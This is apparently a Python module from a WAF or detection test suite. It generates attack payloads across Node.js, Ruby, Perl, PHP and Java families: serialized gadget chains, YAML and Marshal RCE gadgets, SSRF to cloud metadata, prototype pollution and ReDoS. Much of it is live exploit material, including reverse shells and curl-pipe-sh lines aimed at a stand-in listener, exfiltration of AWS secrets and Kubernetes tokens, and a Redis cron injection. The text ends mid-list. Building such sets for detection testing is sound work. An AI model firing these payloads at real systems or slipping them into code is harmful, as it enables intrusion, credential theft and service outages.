"""Blind set "twohundredsecond": Node.js, SSRF, prototype pollution, Ruby, Perl and data: wrapper injection,
Java (class names, process spawning, serialized objects and gadget chains, Log4Shell, expression languages,
polymorphic JSON/XML deserializers, class loading, JSP uploads) and server-side template injection in seventeen
engines, aimed at cloud-native and API-first back ends, with benign requests that carry the same words innocently.

The angle: modern services behind an edge, recalled from memory. The payloads are written the way a tester aims
them at JSON REST APIs and GraphQL resolvers (variables, nested input objects), serverless functions, ORMs with
raw-query escape hatches, Node/Express, Spring Boot, FastAPI and Go services, message and webhook consumers
(GitHub/Stripe-style webhook bodies, callback URLs), Kubernetes and cloud metadata endpoints, object-storage keys,
CI/CD webhooks, server-side renderers (Next.js, Nuxt), headless-browser PDF and image renderers (an HTML fragment
whose iframe the renderer fetches), search engines (Elasticsearch script fields, Solr's Velocity writer) and
caches (Redis and memcached over gopher:// and dict://). Each group of payloads carries a comment naming its
family, the service it is aimed at and its target (shell, interpreter, JVM, template engine, product, metadata
service).

Families:
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization (magic bytes raw, percent-encoded, base64, hex,
    gzip), deserialization-gadgets (commons-collections, commons-beanutils, spring, groovy, jdk7u21, c3p0, rome,
    hibernate, URLDNS, JRMP), log4shell, expression-language (OGNL, SpEL, MVEL, JEXL, JSP EL),
    polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML), class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users under API field names such as filter, callback_url, template, a cookie,
User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a multipart field, the URL path), once the way
a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php,
/get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form
body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole
documents go as the body they are: GraphQL requests, webhook deliveries, fastjson/Jackson objects, Elasticsearch
and Nexus requests as JSON bodies, XStream/XMLDecoder documents as XML bodies, Ruby and SnakeYAML documents as
YAML bodies. Query-string pollution (`__proto__[x]=`, Spring4Shell `class.module.classLoader...=`, EJS
`settings[view options]...=`, Solr's `wt=velocity`) goes as raw `name=value` pairs; Spring Cloud Function's
routing expression and Struts' Content-Type go in their own headers; JSP shells go as upload file names carrying
a JSP body. Raw serialized Java bytes go only where bytes can go (percent-encoded query, form and parameter
name, a raw body).

Authorship and independence: written for this repository from general knowledge of each attack family, the
services named above as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness: serialized streams and gzip members are built with fixed values).
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "twohundredsecond"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
YB = ("yaml-body", "rs-yaml-body")
XB = ("xml", "rs-xml")
RAW: set[str] = set()   # payloads that are themselves `name=value` pairs (sent unquoted)
HOST = "203.0.113.7"   # the tester's listener (documentation range)
OAST = "c2h7x.oast.example"   # the tester's out-of-band DNS/HTTP host


def jb(doc: Any) -> Entry:
    """A whole JSON document as the request body."""
    return (json.dumps(doc), *JB)


def kv(payload: str, real: str = "query", rs: str = "rs-query") -> Entry:
    """A raw `name=value` payload (query-string pollution), sent unquoted."""
    RAW.add(payload)
    return (payload, real, rs)


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def latin(raw: bytes) -> str:
    """Raw bytes held as latin-1 text (the placements percent-encode them byte by byte)."""
    return raw.decode("latin-1")


# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams, built the way ysoserial's output begins: the stream magic and version (ac ed 00 05),
# then each object of the chain as TC_OBJECT + TC_CLASSDESC (class name, serialVersionUID, flags, fields),
# TC_ENDBLOCKDATA and TC_NULL for the superclass, and the command or URL as a TC_STRING at the end.
def _utf(s: str) -> bytes:
    b = s.encode()
    return len(b).to_bytes(2, "big") + b


def _desc(name: str, suid: int, fields: Sequence[tuple[str, str, str]] = ()) -> bytes:
    out = b"\x73\x72" + _utf(name) + suid.to_bytes(8, "big") + b"\x02" + len(fields).to_bytes(2, "big")
    for code, fname, ftype in fields:
        out += code.encode() + _utf(fname) + (b"\x74" + _utf(ftype) if code in "L[" else b"")
    return out + b"\x78\x70"


def ser(chain: Sequence[tuple[str, int]], *strings: str) -> bytes:
    """A serialized stream: the chain's objects, then the strings (command, URL) the gadget carries."""
    out = b"\xac\xed\x00\x05"
    for name, suid in chain:
        out += _desc(name, suid, (("L", "value", "Ljava/lang/Object;"),))
    for s in strings:
        out += b"\x74" + _utf(s)
    return out


def gz(raw: bytes) -> bytes:
    return gzip.compress(raw, mtime=0)


AIH = ("sun.reflect.annotation.AnnotationInvocationHandler", 0x55CAF50F15CB7EA5)
PQ = ("java.util.PriorityQueue", 0x94DA30B4FB3F82B1)
HM = ("java.util.HashMap", 0x0507DAC1C31660D1)
HS = ("java.util.HashSet", 0xBA44859596B8B734)
TPL = ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 0x09574FC16EACAB33)
LAZY = ("org.apache.commons.collections.map.LazyMap", 0x6EE594829E791094)
CHAIN = ("org.apache.commons.collections.functors.ChainedTransformer", 0x30C797EC287A9704)
CONST = ("org.apache.commons.collections.functors.ConstantTransformer", 0x587690114102B194)
INV = ("org.apache.commons.collections.functors.InvokerTransformer", 0x87E8FF6B7B7CCE38)
TIED = ("org.apache.commons.collections.keyvalue.TiedMapEntry", 0x8AD29B39C11FDB84)
BAVE = ("javax.management.BadAttributeValueExpException", 0xD4E7DAAB632D4640)
URL = ("java.net.URL", 0x962537361AFCE472)

CC1 = ser([AIH, LAZY, CHAIN, CONST, INV], "java.lang.Runtime", "getRuntime", "exec", "touch /tmp/cc1")
CC2 = ser([PQ, ("org.apache.commons.collections4.comparators.TransformingComparator", 0x2FF984F02BB108CC),
           ("org.apache.commons.collections4.functors.InvokerTransformer", 0x87E8FF6B7B7CCE38), TPL],
          "newTransformer", "curl http://" + HOST + "/cc2|sh")
CC5 = ser([BAVE, TIED, LAZY, CHAIN, INV], "exec", "nslookup cc5." + OAST)
CC6 = ser([HS, TIED, LAZY, CHAIN, CONST, INV], "exec", "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}")
CC7 = ser([("java.util.Hashtable", 0x13BB0F25214AE4B8), LAZY, CHAIN, INV], "exec", "id")
CB1 = ser([PQ, ("org.apache.commons.beanutils.BeanComparator", 0xE3A188EA7322A448), TPL],
          "outputProperties", "wget -qO- http://" + HOST + "/cb1.sh|sh")
SPRING1 = ser([("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 0x1F2D3C4B5A697887),
               ("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                0x7C6E4A8B2F1D3E5A), AIH, TPL], "newTransformer", "touch /tmp/spring1")
SPRING2 = ser([("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 0x1F2D3C4B5A697887),
               ("org.springframework.aop.framework.JdkDynamicAopProxy", 0x4C3B3E8B6A0B4A12),
               ("org.springframework.aop.target.SingletonTargetSource", 0x7D2D1F3A2A9B5C01), TPL],
              "getOutputProperties", "id")
GROOVY1 = ser([AIH, ("org.codehaus.groovy.runtime.ConvertedClosure", 0x10D0E64A9C5A2B3F),
               ("org.codehaus.groovy.runtime.MethodClosure", 0x0B4F3A0C8A5F8E21)], "execute", "entrySet", "id")
JDK7U21 = ser([("java.util.LinkedHashSet", 0xD86CD75A95DD2A1E), TPL, AIH],
              "javax.xml.transform.Templates", "f5a5a608", "touch /tmp/jdk7u21")
C3P0 = ser([("com.mchange.v2.c3p0.PoolBackedDataSource", 0x4A6E0E8EB4A1C1DF),
            ("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", 0x622D1F9A3B6C8E0F),
            ("javax.naming.Reference", 0xE8C69EA2A8E98D09)], "Exploit", "http://" + HOST + ":8000/")
ROME = ser([HM, ("com.sun.syndication.feed.impl.ObjectBean", 0x36E3A9E94C5F8A02),
            ("com.sun.syndication.feed.impl.ToStringBean", 0x0A2F40D8A3E8C5B1),
            ("com.sun.syndication.feed.impl.EqualsBean", 0x7B1A3C2E9F8D6A44), TPL], "touch /tmp/rome")
HIBERNATE1 = ser([HM, ("org.hibernate.engine.spi.TypedValue", 0x1C4D2A3B0E5F6A78),
                  ("org.hibernate.type.ComponentType", 0x5B2E1D4C3A7F6E90),
                  ("org.hibernate.tuple.component.PojoComponentTuplizer", 0x6A3F2E1D0C9B8A77),
                  ("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 0x2E4D6C8B0A1F3E55), TPL],
                 "getOutputProperties", "curl http://" + HOST + "/h1")
URLDNS = ser([HM, URL], "http", "urldns." + OAST)
JRMP = ser([("java.rmi.server.RemoteObjectInvocationHandler", 0x0000000000000002),
            ("sun.rmi.server.UnicastRef", 0x0000000000000001)], HOST, "1099")
RHINO = ser([BAVE, ("org.mozilla.javascript.NativeError", 0x1B2C3D4E5F6A7B8C),
             ("org.mozilla.javascript.NativeJavaObject", 0x2C3D4E5F6A7B8C9D), TPL], "enter", "id")
CLOJURE = ser([HM, ("clojure.inspector.proxy$javax.swing.table.AbstractTableModel$ff19274a", 0x3D4E5F6A7B8C9DAE),
               ("clojure.core$comp$fn__4727", 0x4E5F6A7B8C9DAEBF)],
              "(use '[clojure.java.shell :only [sh]]) (sh \"id\")")
VAADIN = ser([BAVE, ("com.vaadin.data.util.PropertysetItem", 0x5F6A7B8C9DAEBFC0),
              ("com.vaadin.data.util.NestedMethodProperty", 0x6A7B8C9DAEBFC0D1), TPL], "outputProperties", "id")


# Ruby Marshal, written out the way Marshal.dump lays it (fixnums as n+5, symbols with ':', strings with their
# encoding ivar): ActiveSupport's DeprecatedInstanceVariableProxy wrapping an ERB whose `result` runs `id`
def _mfix(n: int) -> bytes:
    return bytes([n + 5]) if n else b"\x00"


def _msym(s: str) -> bytes:
    return b":" + _mfix(len(s)) + s.encode()


def _mstr(s: str) -> bytes:
    return b'I"' + _mfix(len(s)) + s.encode() + _mfix(1) + _msym("E") + b"T"


RAILS_MARSHAL = (b"\x04\x08o" + _msym("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy") + _mfix(4)
                 + _msym("@instance") + b"o" + _msym("ERB") + _mfix(2) + _msym("@src") + _mstr("<%= `id` %>")
                 + _msym("@lineno") + b"i" + _mfix(1) + _msym("@method") + _msym("result")
                 + _msym("@var") + _mstr("@result") + _msym("@deprecator") + b"i" + _mfix(0))


# ================================================================================================================
# generic
# ================================================================================================================
# nodejs-injection: Express handlers, serverless functions and GraphQL resolvers that hand a field to eval(),
# new Function(), vm.runInNewContext() or node-serialize; target: the Node.js interpreter, then the shell through
# child_process
NODE_INJECTION: list[Entry] = [
    # a report builder that eval()s a "formula" field (Express, AWS Lambda)
    "require('child_process').execSync('id').toString()",
    "global.process.mainModule.require('child_process').exec('curl http://" + HOST + "/x.sh|sh')",
    "process.mainModule.constructor._load('child_process').execSync('cat /var/run/secrets/kubernetes.io/"
    "serviceaccount/token').toString()",
    "require('fs').readFileSync('/proc/self/environ','utf8')",
    "require('child_process').spawnSync('sh',['-c','wget -qO- http://10.0.0.5:8000/s.sh|sh']).stdout+''",
    "res.end(require('fs').readdirSync('.').toString())",
    "require('http').get('http://" + OAST + "/?k='+process.env.AWS_SECRET_ACCESS_KEY)",
    "setTimeout(()=>require('child_process').exec('nc " + HOST + " 4444 -e /bin/sh'),0)",
    "module.constructor._load('child_process').execFileSync('/bin/cat',['/etc/passwd']).toString()",
    # string breakout: the value lands inside a quoted string of code a rules engine builds and evaluates
    "';return require('child_process').execSync('uname -a')//",
    "\"+require('child_process').execSync('id')+\"",
    # vm / sandbox escapes (vm2-style sandboxes, vm.runInNewContext with a plain object as context)
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('env')",
    "[].constructor.constructor('return this.process.env')()",
    "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('id')",
    "new Function('return process.env')()",
    "import('child_process').then(m=>m.execSync('id'))",
    "eval(Buffer.from('" + b64("require('child_process').execSync('id')") + "','base64').toString())",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1,"
    "writable:0},{type:'pipe',readable:0,writable:1}]})",
    # node-serialize unserialize() of a cookie or JSON field: the IIFE marker runs on decode
    jb({"profile": "_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){console.log(o)})}()"}),
    ("_$$ND_FUNC$$_function(){require('child_process').execSync('touch /tmp/ns')}()", "cookie", "rs-cookie"),
    # GraphQL resolver that evaluates a computed-field expression
    jb({"query": "mutation($e: String!){ addComputedField(name: \"x\", expr: $e){ id } }",
        "variables": {"e": "global.process.mainModule.require('child_process').execSync('id').toString()"}}),
    # child_process.spawn with a caller-controlled env (NODE_OPTIONS preload of a file the attacker fills)
    jb({"job": "export", "env": {"NODE_OPTIONS": "--require /proc/self/environ",
                                 "AAAA": "console.log(require('child_process').execSync('id').toString())//"}}),
]

# nodejs-dos: user input that reaches eval(), a RegExp constructor or an allocation size; target: the Node.js
# event loop and heap (one request stalls every client of the process)
NODE_DOS: list[Entry] = [
    "while(true){}",
    "new Array(2**32-1).fill(0)",
    "'a'.repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "Array(1e9).join('x')",
    "new Promise(()=>{for(;;);})",
    "setInterval(()=>Buffer.allocUnsafe(1e8),1)",
    "process.exit(1)",
    "process.kill(process.pid,'SIGKILL')",
    "require('fs').readFileSync('/dev/urandom')",
    "require('vm').runInNewContext('while(true){}')",
    "require('child_process').execSync(':(){ :|:& };:')",
    # catastrophic backtracking: a pattern field compiled with new RegExp() (search filters, Mongo $regex)
    "^(a+)+$",
    "(x+x+)+y",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    jb({"filter": {"name": {"$regex": "^(a|aa)+$"}}, "limit": 10}),
    jb({"where": {"email": {"regexp": "/^(\\w+\\s?)*$/"}}}),
    # the evil string for the email validator's nested quantifier, sent to the signup resolver
    jb({"query": "mutation($i: SignupInput!){ signup(input: $i){ id } }",
        "variables": {"i": {"email": "a" * 60 + "!", "name": "x"}}}),
    # graphql-js: unbounded depth and alias amplification
    jb({"query": "{ user(id: 1) { friends { friends { friends { friends { friends { friends { friends { friends "
                 "{ friends { friends { id } } } } } } } } } } }"}),
    jb({"query": "query { " + " ".join(f"a{i}: search(q: \"*\") {{ id }}" for i in range(60)) + " }"}),
]

# ssrf-cloud-metadata: URL fields a service fetches server-side (webhook callbacks, avatar and import URLs,
# PDF/image renderers, link previews); target: the instance metadata service of the cloud the service runs in
CLOUD_METADATA: list[Entry] = [
    # AWS IMDSv1
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    # AWS ECS task role credentials and the IPv6 IMDS endpoint
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    # AWS IMDSv2 token fetch smuggled as a PUT over gopher
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
    # encoded forms of 169.254.169.254 past a string blocklist
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    # Google Cloud
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/attributes/ssh-keys?alt=json",
    # Azure IMDS and managed identity
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management."
    "azure.com/",
    # Alibaba, DigitalOcean, Oracle, OpenStack, Hetzner
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v2/instance/",
    # webhook subscription and image import as whole JSON bodies
    jb({"webhook": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                    "events": ["invoice.paid"], "active": True}}),
    jb({"source": {"url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"},
        "dest": {"bucket": "exports", "key": "thumbs/1.png"}}),
    # headless-browser PDF renderer (Puppeteer, wkhtmltopdf): the HTML it renders fetches the metadata page
    "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"900\" height=\"600\">",
    jb({"html": "<img src=x onerror=\"fetch('http://169.254.169.254/latest/user-data').then(r=>r.text())"
                ".then(t=>document.write(t))\">", "format": "A4"}),
]

# ssrf-internal-ip: the same fetchers aimed at the cluster and the host; target: internal admin APIs, caches,
# search engines, the kubelet, Docker, local files
INTERNAL_IP: list[Entry] = [
    "http://127.0.0.1:9200/_cat/indices?v",
    "http://localhost:8983/solr/admin/cores?action=STATUS",
    "http://127.1:8500/v1/agent/self",
    "http://0:2375/containers/json",
    "http://[::1]:10250/pods",
    "http://2130706433:8080/actuator/env",
    "http://0x7f000001:15672/api/users",
    "http://017700000001:5984/_all_dbs",
    "http://0177.0.0.1:15000/config_dump",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/heapdump",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    # URL-parser confusion: the allowlist sees one host, the client connects to another
    "http://api.example.com@127.0.0.1:8080/internal/admin",
    "http://127.0.0.1#@api.example.com/",
    "http://127.0.0.1:6379\\@api.example.com/",
    # local files through the fetcher
    "file:///etc/passwd",
    "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "file:///proc/self/environ",
    # gopher/dict to the cache: write a cron job through Redis, poison a memcached session, read server stats
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0A"
    "SET%20x%20%22%5Cn*%20*%20*%20*%20*%20bash%20-i%20%3E%26%20/dev/tcp/" + HOST + "/4444%200%3E%261%5Cn%22%0D%0A"
    "SAVE%0D%0A",
    "gopher://localhost:11211/_set%20session:admin%200%203600%204%0D%0Aroot%0D%0A",
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
    jb({"callback_url": "http://127.0.0.1:8080/actuator/shutdown", "method": "POST", "events": ["deploy"]}),
    jb({"query": "mutation($u: String!){ importFeed(url: $u){ items } }",
        "variables": {"u": "http://[::]:8500/v1/kv/?recurse"}}),
]

# javascript-prototype-pollution: deep merges of JSON bodies and qs-parsed query strings in Express/Fastify
# services (lodash.merge/set, hoek, custom config mergers); target: Object.prototype of the Node.js process, and
# the template engines and child_process calls that read polluted options (EJS, pug, handlebars, fork/spawn)
PROTO_POLLUTION: list[Entry] = [
    kv("__proto__[isAdmin]=true"),
    kv("__proto__.role=admin", "form", "rs-raw-body"),
    kv("constructor[prototype][isAdmin]=1"),
    kv("constructor.prototype.verified=true", "param-name", "rs-param-name"),
    kv("filter[__proto__][admin]=1"),
    kv("sort[constructor][prototype][toString]=1", "form", "rs-form"),
    kv("__proto__[json spaces]=10", "param-name", "rs-query"),
    kv("__proto__[exposedHeaders][]=X-Polluted", "query", "rs-param-name"),
    # EJS render-option gadget: outputFunctionName is pasted into the compiled function's source
    kv("__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process')"
       ".execSync('id');var __tmp2", "form", "rs-raw-body"),
    # child_process.spawn option gadget: shell and argv0 taken from the prototype, NODE_OPTIONS preloads them
    kv("__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id')"
       ".toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline"),
    kv("__proto__[execArgv][]=--eval=require('child_process').execSync('touch /tmp/pp')", "query", "rs-form"),
    # lodash template sourceURL gadget: a newline ends the comment and the rest runs in the compiled template
    kv("__proto__[sourceURL]=\nreturn global.process.mainModule.require('child_process').execSync('id')//"),
    jb({"__proto__": {"isAdmin": True}}),
    jb({"constructor": {"prototype": {"isAdmin": True}}}),
    jb({"user": {"name": "x", "__proto__": {"role": "admin"}}}),
    jb({"__proto__": {"client": 1, "escapeFunction": "JSON.stringify; process.mainModule.require('child_process')"
                                                   ".exec('id')"}}),
    jb({"__proto__": {"block": {"type": "Text", "line": "process.mainModule.require('child_process')"
                                                        ".execSync('id')"}}}),
    jb({"__proto__": {"type": "Program", "body": [{"type": "MustacheStatement", "path": 0, "params": [
        {"type": "NumberLiteral", "value": "process.mainModule.require('child_process').execSync('id')"}],
        "loc": {"start": 0, "end": 0}}]}}),
    jb({"__proto__": {"env": {"NODE_OPTIONS": "--require /proc/self/environ",
                              "EVIL": "require('child_process').execSync('curl " + HOST + "/pp|sh')//"}}}),
    jb({"__proto__": {"shell": "node", "NODE_OPTIONS": "--inspect=" + HOST + ":9229"}}),
    # lodash.set / dot-path updaters (PATCH endpoints taking a path and a value)
    jb({"op": "replace", "path": "__proto__.isAdmin", "value": True}),
    jb({"path": ["constructor", "prototype", "isAdmin"], "value": True}),
    # GraphQL JSON scalar merged into the user's preferences
    jb({"query": "mutation($p: JSON!){ updatePreferences(prefs: $p){ ok } }",
        "variables": {"p": {"__proto__": {"isAdmin": True}}}}),
    # webhook consumer that merges the payload into its defaults
    jb({"event": "deployment", "payload": {"__proto__": {"status": 510, "allowedHosts": ["*"]}}}),
]

# ruby-injection: Rails and Sinatra services that eval a field, interpolate it into a shell string, open() it, or
# YAML.load/Marshal.load it (Sidekiq-style job payloads, cached objects); target: the Ruby interpreter and shell
RUBY: list[Entry] = [
    "`id`",
    "#{`id`}",
    "#{system('id')}",
    "%x(cat /etc/passwd)",
    "IO.popen('id').read",
    "Kernel.exec('/bin/sh -i')",
    "instance_eval(\"system('id')\")",
    "Process.spawn('nc -e /bin/sh " + HOST + " 4444')",
    "require 'open3'; Open3.capture2('id')[0]",
    "f=TCPSocket.open(\"" + HOST + "\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
    "eval(Base64.decode64('" + b64("system('id')") + "'))",
    # Kernel#open on a caller-supplied name (open-uri, send_file helpers): a leading pipe runs a command
    "|curl http://" + HOST + "/r.sh | sh",
    "|cat /etc/passwd",
    # public_send with the method name from JSON (dynamic dispatch in an API controller)
    jb({"method": "system", "args": ["id"]}),
    jb({"method": "instance_eval", "args": ["`touch /tmp/rb`"]}),
    # YAML.load (Psych < 4) of a request body: the Gem::Requirement universal gadget runs `id`
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", *YB),
    # Rails 3 XML/YAML params (CVE-2013-0156 style): a named route whose key is evaluated
    ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
     "? ! \"foo; system('id') #\"\n: !ruby/object:OpenStruct\n  table:\n    :defaults: {}\n", *YB),
    ("--- !ruby/object:ERB\nsrc: <%= `id` %>\nfilename: x\nlineno: 1\n", *YB),
    # Marshal.load of a base64 cookie: ActiveSupport's deprecated-proxy gadget evaluating ERB source
    (b64(RAILS_MARSHAL), "cookie", "rs-cookie"),
]

# perl-injection: CGI scripts and Mojolicious/Dancer services that pass a field to two-argument open(), system(),
# qx// or a string eval; target: the Perl interpreter and shell
PERL: list[Entry] = [
    "|/bin/sh -c id|",
    "cat /etc/passwd|",
    "|curl -s http://" + HOST + "/p.pl|perl",
    "; uname -a|",
    "`uname -a`",
    "qx{id}",
    "qx(cat /etc/shadow)",
    "system('/bin/sh','-c','id')",
    "exec('/bin/bash -i')",
    "eval{system 'id'}",
    "@{[ system 'id' ]}",
    "${\\ qx(id)}",
    "open(F,'|id');close F",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('"
    + HOST + "')));open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');",
    "require POSIX; POSIX::system('id')",
    "do '/tmp/upload.pl'",
    "s/.*/system('id')/e",
    "/(?{ system('id') })/",
    jb({"filename": "|wget -qO- http://" + HOST + "/x|sh|", "format": "csv"}),
]

# php-data-scheme: a template, include or fetch-by-URL field of a Laravel/Symfony API that reaches include() or
# file_get_contents(); target: the PHP interpreter through the data: stream wrapper
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + b64("<?php system($_GET['cmd']);?>"),
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64," + b64("<?php system('id');?>"),
    "data://text/plain;base64," + b64("<?php echo file_get_contents('/var/run/secrets/kubernetes.io/"
                                      "serviceaccount/token');?>"),
    "data://application/x-httpd-php;base64," + b64("<?php passthru('env');?>"),
    "DATA://text/plain;base64," + b64("<?php eval($_POST[0]);?>"),
    "data:text/html;charset=utf-8,<?=`id`?>",
    "data://text/plain;charset=UTF-8;base64," + b64("<?php file_put_contents('/var/www/html/s.php','<?php "
                                                   "system($_REQUEST[c]);');?>"),
    "php://filter/read=convert.base64-decode/resource=data://plain/text," + b64("<?php system('id');?>"),
    "data:text/plain,<?php echo shell_exec($_SERVER['HTTP_X_CMD']);?>",
    "data://text/plain,<?php $s=fsockopen('" + HOST + "',4444);exec('/bin/sh -i <&3 >&3 2>&3');?>",
    "data:,<?php system('curl " + HOST + "/w|sh');",
    jb({"template": "data://text/plain,<?php passthru($_SERVER['HTTP_X_CMD']);?>", "locale": "en"}),
    jb({"import": {"source": "data:text/plain;base64," + b64("<?php system('id'); ?>"), "type": "csv"}}),
    ("data://text/plain;base64," + b64("<?php system('whoami');?>"), "header:Referer", "rs-header:Referer"),
]


# ================================================================================================================
# java
# ================================================================================================================
# java-class-names: fields a JVM service evaluates as script or expression (Groovy rule engines, Jenkins' script
# console, Nashorn/GraalJS "custom logic" fields, Elasticsearch script fields); target: the JVM, reached by
# naming Runtime, ProcessBuilder, ClassLoader, ScriptEngineManager and friends
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "java.lang.Class.forName('java.lang.Runtime').getDeclaredMethods()[15].invoke(null)",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByName('js').eval('new java.lang.ProcessBuilder(\"id\")"
    ".start()')",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass('javax.naming.InitialContext')",
    "new javax.naming.InitialContext().lookup(\"ldap://" + HOST + ":1389/Exploit\")",
    "java.lang.System.getenv()",
    "new java.io.FileInputStream(\"/etc/passwd\").readAllBytes()",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/var/run/secrets/kubernetes.io/serviceaccount/"
    "token\"))",
    "java.lang.reflect.Method m = java.lang.Runtime.class.getMethod(\"exec\", String.class);",
    "java.lang.invoke.MethodHandles.lookup().findStatic(java.lang.Runtime.class,\"getRuntime\","
    "java.lang.invoke.MethodType.methodType(java.lang.Runtime.class))",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "new groovy.lang.GroovyShell().evaluate('\"id\".execute().text')",
    # Elasticsearch 1.x scripting: MVEL (CVE-2014-3120) and the Groovy sandbox escape (CVE-2015-1427)
    jb({"size": 1, "query": {"match_all": {}}, "script_fields": {"x": {
        "script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream())"
                  ".useDelimiter(\"\\\\A\").next();"}}}),
    jb({"size": 1, "script_fields": {"lupin": {
        "lang": "groovy",
        "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}),
    # Jenkins script console (POST /script, script=...)
    kv("script=println(Class.forName('java.lang.Runtime').getRuntime().exec('id').text)", "form", "rs-form"),
]

# java-process-spawn: the command-running half of the same fields; target: the shell the JVM spawns
JAVA_SPAWN: list[Entry] = [
